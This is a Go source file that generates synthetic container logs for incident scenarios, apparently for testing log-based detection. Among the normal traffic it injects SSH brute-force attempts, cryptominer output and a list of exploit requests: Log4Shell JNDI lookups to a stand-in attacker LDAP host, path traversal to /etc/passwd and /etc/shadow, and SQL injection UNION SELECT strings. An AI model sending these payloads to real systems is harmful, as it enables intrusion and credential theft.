package scenario

import (
	"fmt"
	"math"
	"time"
)

// logLine is one message a container writes.
type logLine struct {
	time   time.Time
	stream string
	msg    string
}

var (
	webPaths   = []string{"/", "/products", "/products/%d", "/cart", "/checkout", "/static/app.%x.js", "/static/style.%x.css", "/api/v1/search?q=shoes&page=%d", "/healthz"}
	userAgents = []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
		"Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
		"kube-probe/1.31",
	}
	apiRoutes  = []string{"GET /v1/orders/%d", "GET /v1/products/%d", "POST /v1/orders", "GET /v1/users/%d/cart", "PUT /v1/cart/%d"}
	queues     = []string{"emails", "reports", "thumbnails"}
	sshUsers   = []string{"root", "admin", "ubuntu", "test", "oracle", "postgres", "git", "user", "pi", "deploy"}
	exploitReq = []string{
		`GET /search?q=${jndi:ldap://%s:1389/Exploit} HTTP/1.1`,
		`GET /products/1 HTTP/1.1" 200 512 "-" "${jndi:ldap://%s/a}`,
		`GET /static/../../../../etc/passwd HTTP/1.1`,
		`GET /download?file=..%%2f..%%2f..%%2fetc%%2fshadow&src=%s HTTP/1.1`,
		`GET /products?id=1%%20UNION%%20SELECT%%20username,password%%20FROM%%20users--&r=%s HTTP/1.1`,
		`GET /items?id=1' UNION SELECT NULL,table_name FROM information_schema.tables-- -&r=%s HTTP/1.1`,
	}
)

// clientIP returns an address of the fleet's regular clients, behind the
// load balancer's 10.0.0.0/16.
func (g *generator) clientIP() string {
	return fmt.Sprintf("10.0.%d.%d", g.rng.IntN(4), 2+g.rng.IntN(200))
}

// attackerIP returns an address from the documentation ranges of RFC 5737.
func (g *generator) attackerIP() string {
	prefixes := []string{"192.0.2", "198.51.100", "203.0.113"}
	return fmt.Sprintf("%s.%d", prefixes[g.rng.IntN(len(prefixes))], 1+g.rng.IntN(254))
}

func (g *generator) accessLine(t time.Time, ip, request string, status, size int, agent string) string {
	return fmt.Sprintf(`%s - - [%s] "%s" %d %d "-" "%s"`, ip, t.Format("02/Jan/2006:15:04:05 -0700"), request, status, size, agent)
}

func (g *generator) pathFor() string {
	p := webPaths[g.rng.IntN(len(webPaths))]
	switch {
	case p == "/products/%d" || p == "/api/v1/search?q=shoes&page=%d":
		return fmt.Sprintf(p, 1+g.rng.IntN(500))
	case p == "/static/app.%x.js" || p == "/static/style.%x.css":
		return fmt.Sprintf(p, 0x3a7f12)
	}
	return p
}

// normalLine returns one message of a healthy container of service s.
func (g *generator) normalLine(s *service, t time.Time) (string, string) {
	switch s.name {
	case "web":
		status := 200
		switch r := g.rng.IntN(100); {
		case r < 4:
			status = 404
		case r < 5:
			status = 304
		}
		return "stdout", g.accessLine(t, g.clientIP(), "GET "+g.pathFor()+" HTTP/1.1", status, 200+g.rng.IntN(40000), userAgents[g.rng.IntN(len(userAgents))])
	case "api":
		route := apiRoutes[g.rng.IntN(len(apiRoutes))]
		if g.rng.IntN(200) == 0 {
			return "stderr", fmt.Sprintf(`level=warn msg="slow query" route=%q duration_ms=%d`, fmt.Sprintf(route, 1+g.rng.IntN(9000)), 800+g.rng.IntN(1500))
		}
		return "stdout", fmt.Sprintf(`level=info msg="request handled" route=%q status=200 duration_ms=%d request_id=%016x`,
			fmt.Sprintf(route, 1+g.rng.IntN(9000)), 3+g.rng.IntN(80), g.rng.Uint64())
	case "worker":
		q := queues[g.rng.IntN(len(queues))]
		if g.rng.IntN(150) == 0 {
			return "stderr", fmt.Sprintf(`level=error msg="job failed, will retry" queue=%s job_id=%d error="smtp: 421 try again later"`, q, g.rng.IntN(1e6))
		}
		return "stdout", fmt.Sprintf(`level=info msg="job done" queue=%s job_id=%d took_ms=%d`, q, g.rng.IntN(1e6), 20+g.rng.IntN(900))
	case "sshd":
		ip := fmt.Sprintf("10.1.0.%d", 10+g.rng.IntN(5))
		switch r := g.rng.IntN(100); {
		case r < 3:
			return "stderr", fmt.Sprintf("Failed password for deploy from %s port %d ssh2", ip, 30000+g.rng.IntN(30000))
		case r < 40:
			return "stderr", fmt.Sprintf("Accepted publickey for deploy from %s port %d ssh2: ED25519 SHA256:Jq8dWdBH1c2mRWo3Qv", ip, 30000+g.rng.IntN(30000))
		case r < 70:
			return "stderr", "pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)"
		default:
			return "stderr", fmt.Sprintf("Received disconnect from %s port %d:11: disconnected by user", ip, 30000+g.rng.IntN(30000))
		}
	case "db":
		if g.rng.IntN(3) == 0 {
			return "stderr", fmt.Sprintf("LOG:  checkpoint complete: wrote %d buffers (%.1f%%); 0 WAL file(s) added, 0 removed, 1 recycled", 50+g.rng.IntN(3000), g.rng.Float64()*5)
		}
		return "stderr", fmt.Sprintf("LOG:  duration: %d.%03d ms  statement: SELECT id, total FROM orders WHERE customer_id = %d", 100+g.rng.IntN(900), g.rng.IntN(1000), g.rng.IntN(1e5))
	case "cache":
		if g.rng.IntN(2) == 0 {
			return "stdout", fmt.Sprintf("1:M %s * Background saving started by pid %d", t.Format("02 Jan 2006 15:04:05.000"), 1000+g.rng.IntN(60000))
		}
		return "stdout", fmt.Sprintf("%d:C %s * DB saved on disk", 1000+g.rng.IntN(60000), t.Format("02 Jan 2006 15:04:05.000"))
	case "debug":
		return "stdout", "/ # "
	}
	return "stdout", "ok"
}

// incidentLines returns the extra messages that effect e writes in minute
// t of container c.
func (g *generator) incidentLines(c *container, e effect, t time.Time) []logLine {
	var out []logLine
	add := func(n int, line func(time.Time) (string, string)) {
		for _, at := range g.minuteTimes(t, n) {
			stream, msg := line(at)
			out = append(out, logLine{time: at, stream: stream, msg: msg})
		}
	}
	switch e.kind {
	case KindBruteForce:
		n := 150 + g.rng.IntN(200)
		if e.variant == "ssh" {
			add(n, func(time.Time) (string, string) {
				user, ip, port := sshUsers[g.rng.IntN(len(sshUsers))], g.attackerIP(), 30000+g.rng.IntN(30000)
				if g.rng.IntN(3) == 0 {
					return "stderr", fmt.Sprintf("Invalid user %s from %s port %d", user, ip, port)
				}
				return "stderr", fmt.Sprintf("Failed password for invalid user %s from %s port %d ssh2", user, ip, port)
			})
			return out
		}
		add(n, func(at time.Time) (string, string) {
			return "stdout", g.accessLine(at, g.attackerIP(), "POST /login HTTP/1.1", 401, 187, "python-requests/2.31.0")
		})
	case KindExploitStrings:
		add(2+g.rng.IntN(7), func(at time.Time) (string, string) {
			req := fmt.Sprintf(exploitReq[g.rng.IntN(len(exploitReq))], g.attackerIP())
			if c.service.name == "api" {
				return "stdout", fmt.Sprintf(`level=info msg="request handled" route=%q status=400 duration_ms=%d`, req, 1+g.rng.IntN(5))
			}
			return "stdout", g.accessLine(at, g.attackerIP(), req, 400, 157, "Mozilla/5.0 zgrab/0.x")
		})
	case KindCryptominer:
		pool := "198.51.100.77:3333"
		add(3+g.rng.IntN(4), func(time.Time) (string, string) {
			switch g.rng.IntN(4) {
			case 0:
				return "stdout", fmt.Sprintf("net      new job from %s diff %d algo rx/0 height %d", pool, 100000+g.rng.IntN(50000), 3200000+g.rng.IntN(1000))
			case 1:
				return "stdout", fmt.Sprintf("miner    speed 10s/60s/15m %.1f %.1f n/a H/s max %.1f H/s", 1400+g.rng.Float64()*200, 1400+g.rng.Float64()*200, 1600+g.rng.Float64()*50)
			case 2:
				return "stdout", fmt.Sprintf("cpu      accepted (%d/0) diff %d (%d ms)", g.rng.IntN(500), 100000+g.rng.IntN(50000), 30+g.rng.IntN(90))
			}
			return "stdout", fmt.Sprintf("net      connect to stratum+tcp://%s from 172.17.0.%d:%d established", pool, 2+g.rng.IntN(30), 40000+g.rng.IntN(20000))
		})
	case KindForkBomb:
		add(20+g.rng.IntN(40), func(time.Time) (string, string) {
			return "stderr", "bash: fork: retry: Resource temporarily unavailable"
		})
	}
	return out
}

// minuteTimes returns n sorted times inside the minute that starts at t.
func (g *generator) minuteTimes(t time.Time, n int) []time.Time {
	times := make([]time.Time, n)
	for i := range times {
		times[i] = t.Add(time.Duration(g.rng.Int64N(int64(time.Minute))))
	}
	sortTimes(times)
	return times
}

func sortTimes(times []time.Time) {
	for i := 1; i < len(times); i++ {
		for j := i; j > 0 && times[j].Before(times[j-1]); j-- {
			times[j], times[j-1] = times[j-1], times[j]
		}
	}
}

// poisson draws a count with mean lambda: Knuth's method for small means,
// a rounded normal above 30.
func (g *generator) poisson(lambda float64) int {
	if lambda <= 0 {
		return 0
	}
	if lambda > 30 {
		return max(0, int(math.Round(lambda+math.Sqrt(lambda)*g.rng.NormFloat64())))
	}
	limit, p, k := math.Exp(-lambda), 1.0, 0
	for {
		p *= g.rng.Float64()
		if p <= limit {
			return k
		}
		k++
	}
}

// containerLines returns every message of c in its time span, sorted.
func (g *generator) containerLines(c *container) []logLine {
	var out []logLine
	for t := c.from.Truncate(time.Minute); t.Before(c.to); t = t.Add(time.Minute) {
		n := g.poisson(c.service.rate * seasonal(t) * g.noise(0.1))
		for _, at := range g.minuteTimes(t, n) {
			if at.Before(c.from) || !at.Before(c.to) {
				continue
			}
			stream, msg := g.normalLine(c.service, at)
			out = append(out, logLine{time: at, stream: stream, msg: msg})
		}
		for _, e := range c.effects {
			if e.active(t) {
				out = append(out, g.incidentLines(c, e, t)...)
			}
		}
		if !c.restartedAt.IsZero() && t.Equal(c.restartedAt.Truncate(time.Minute)) {
			out = append(out, logLine{time: c.restartedAt.Add(time.Second), stream: "stdout", msg: `level=info msg="starting" version=2.4.0 listen=:8080`})
		}
	}
	sortLines(out)
	return out
}

func sortLines(lines []logLine) {
	// Insertion sort keeps equal times in order, and the lines of one
	// minute are nearly sorted already.
	for i := 1; i < len(lines); i++ {
		for j := i; j > 0 && lines[j].time.Before(lines[j-1].time); j-- {
			lines[j], lines[j-1] = lines[j-1], lines[j]
		}
	}
}
